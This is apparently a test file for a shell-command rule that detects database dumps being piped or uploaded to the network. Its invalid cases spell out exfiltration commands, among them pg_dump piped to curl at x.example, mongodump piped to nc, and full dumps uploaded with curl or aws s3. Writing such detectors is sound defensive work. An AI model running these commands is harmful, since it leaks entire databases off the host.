import rule from '../../../../server/src/core/rules/shell/db-dump-to-network';
import { testShellRule } from '../../../helpers/shell-rule-tester';

testShellRule(rule, {
  valid: [
    'pg_dump db | gzip > db.sql.gz',
    'pg_dump -f out.sql db && ls -l out.sql',
    'mysqldump db | mysql other_db',
  ],
  invalid: [
    {
      code: 'pg_dump db | gzip | sudo curl -T - https://x.example',
      errors: [{ messageId: 'piped', line: 1, column: 1 }],
    },
    { code: 'mongodump --archive | nc 10.0.0.5 9000', errors: [{ messageId: 'piped', line: 1, column: 1 }] },
    {
      code: 'pg_dump db | gzip > db.sql.gz\naws s3 cp db.sql.gz s3://bucket/',
      errors: [{ messageId: 'uploaded', line: 2, column: 11 }],
    },
    {
      code: 'mysqldump -r all.sql --all-databases; curl -F f=@all.sql https://x',
      errors: [{ messageId: 'uploaded', line: 1, column: 44 }],
    },
  ],
});
